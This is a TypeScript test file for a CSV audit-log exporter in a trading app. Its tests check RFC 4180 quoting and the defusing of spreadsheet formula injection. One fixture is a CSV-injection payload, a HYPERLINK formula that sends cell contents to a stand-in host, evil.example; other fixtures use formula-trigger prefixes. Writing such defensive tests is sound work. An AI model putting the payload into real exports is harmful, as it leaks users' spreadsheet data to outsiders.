import { describe, expect, it } from 'vitest';
import { formatPrice, formatQty, type Instrument } from '../instruments';
import { auditCsv, type AuditCsvFormatOf } from './auditCsv';
import type { AuditEntry } from './types';

const BTC: Instrument = {
  venue: 'SIM',
  symbol: 'BTC-USDT',
  venueSymbol: 'BTCUSDT',
  base: 'BTC',
  quote: 'USDT',
  priceDecimals: 1,
  tickSize: 5, // 0.5
  qtyDecimals: 3,
  lotSize: 1, // 0.001
  minNotional: 0,
};
const fmt: AuditCsvFormatOf = (venue, symbol) =>
  venue === BTC.venue && symbol === BTC.symbol ? { price: (t) => formatPrice(BTC, t), qty: (l) => formatQty(BTC, l) } : undefined;

const HEADER =
  'time,order,venue,symbol,action,source,status_before,status_after,price_before,price_after,stop_before,stop_after,' +
  'qty_before,qty_after,filled_before,filled_after,version_before,version_after,detail';

const entry = (over: Partial<AuditEntry> = {}): AuditEntry => ({
  seq: 7,
  n: 0,
  ts: Date.UTC(2025, 10, 21, 9, 30, 5, 42),
  clientOrderId: 'sq-lx8k2j-000123',
  venue: 'SIM',
  symbol: 'BTC-USDT',
  action: 'fill',
  source: 'venue',
  before: { status: 'accepted', price: 190_001, qty: 2_500, filledQty: 0, version: 1 },
  after: { status: 'partially_filled', price: 190_001, qty: 2_500, filledQty: 1_250, version: 1 },
  detail: '1.250 @ 95000.5 taker',
  ...over,
});

/** A strict RFC 4180 reader, to prove a spreadsheet would see exactly the cells we meant. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        value += text.slice(i, q);
        i = q + 1;
        if (text[i] !== '"') break;
        value += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      value = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (/["\r\n]/.test(value)) throw new Error(`bare quote or line break in an unquoted field: ${JSON.stringify(value)}`);
      i += value.length;
    }
    row.push(value);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}`);
  }
}

describe('auditCsv', () => {
  it('writes the header and one CRLF-terminated row per entry, in decimals, time in UTC with milliseconds', () => {
    const csv = auditCsv([entry()], fmt);
    expect(csv).toBe(
      `${HEADER}\r\n` +
        '2025-11-21T09:30:05.042Z,sq-lx8k2j-000123,SIM,BTC-USDT,fill,venue,accepted,partially_filled,' +
        '95000.5,95000.5,,,2.500,2.500,0.000,1.250,1,1,1.250 @ 95000.5 taker\r\n',
    );
  });

  it('leaves before cells empty for a first event, and stop cells empty for an order without a stop', () => {
    const submit = entry({ action: 'submit', source: 'ticket', before: undefined, detail: undefined, after: { status: 'initialized', qty: 10, filledQty: 0, version: 1 } });
    const amend = entry({
      action: 'amend',
      source: 'grid',
      before: { status: 'pending_update', price: 180_000, stopPrice: 181_000, qty: 10, filledQty: 0, version: 1 },
      after: { status: 'accepted', price: 180_002, stopPrice: 181_002, qty: 8, filledQty: 0, version: 2 },
      detail: undefined,
    });
    const [, first, second] = parseCsv(auditCsv([submit, amend], fmt));
    expect(first!.slice(6)).toEqual(['', 'initialized', '', '', '', '', '', '0.010', '', '0.000', '', '1', '']);
    expect(second!.slice(6)).toEqual(['pending_update', 'accepted', '90000.0', '90001.0', '90500.0', '90501.0', '0.010', '0.008', '0.000', '0.000', '1', '2', '']);
  });

  it('falls back to raw ticks and lots when the instrument is unknown, asking once per instrument', () => {
    const asked: string[] = [];
    const counting: AuditCsvFormatOf = (venue, symbol) => {
      asked.push(`${venue}:${symbol}`);
      return fmt(venue, symbol);
    };
    const gone = entry({ venue: 'OLD', symbol: 'DELISTED', before: undefined, after: { status: 'canceled', price: -3, stopPrice: 12, qty: 40, filledQty: 7, version: 5 } });
    const rows = parseCsv(auditCsv([entry(), gone, entry({ seq: 8 }), gone], counting));
    expect(rows[2]!.slice(7, 18)).toEqual(['canceled', '', '-3', '', '12', '', '40', '', '7', '', '5']);
    expect(asked).toEqual(['SIM:BTC-USDT', 'OLD:DELISTED']);
  });

  it('quotes a hostile detail per RFC 4180 and defuses its formula, keeping every character', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click me"),\r\n"quoted", and a\nnewline';
    const csv = auditCsv([entry({ detail: hostile }), entry({ seq: 8, detail: 'next row' })], fmt);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.length === 19)).toBe(true);
    expect(rows[1]![18]).toBe(`'${hostile}`);
    expect(rows[2]![18]).toBe('next row');
  });

  it('guards every cell that a spreadsheet would run, but not a plain negative number', () => {
    const negative: AuditCsvFormatOf = () => ({ price: (t) => (t / 10).toFixed(1), qty: (l) => String(l) });
    const e = entry({
      clientOrderId: '@SUM(A1:A9)',
      venue: '+cmd',
      symbol: '-2+3',
      before: { status: 'accepted', price: -125, qty: 1, filledQty: 0, version: 1 },
      after: { status: 'accepted', price: -125, qty: 1, filledQty: 0, version: 1 },
      detail: '\t=1+1',
    });
    const [, row] = parseCsv(auditCsv([e], negative));
    expect(row!.slice(1, 4)).toEqual(["'@SUM(A1:A9)", "'+cmd", "'-2+3"]);
    expect(row!.slice(8, 10)).toEqual(['-12.5', '-12.5']);
    expect(row![18]).toBe("'\t=1+1");
    const rows = parseCsv(auditCsv([entry({ detail: '  =1+1' }), entry({ detail: '-' }), entry({ detail: 'fine - really' })], fmt));
    expect(rows.slice(1).map((r) => r[18])).toEqual(["'  =1+1", "'-", 'fine - really']);
  });

  it('is just the header for no entries, and refuses a time that is not one', () => {
    expect(auditCsv([], fmt)).toBe(`${HEADER}\r\n`);
    expect(auditCsv([entry({ ts: 0 })], fmt).split('\r\n')[1]!.startsWith('1970-01-01T00:00:00.000Z,')).toBe(true);
    expect(() => auditCsv([entry({ ts: Number.NaN })], fmt)).toThrow(/7\.0 \(sq-lx8k2j-000123\): ts NaN is not a time/);
  });
});
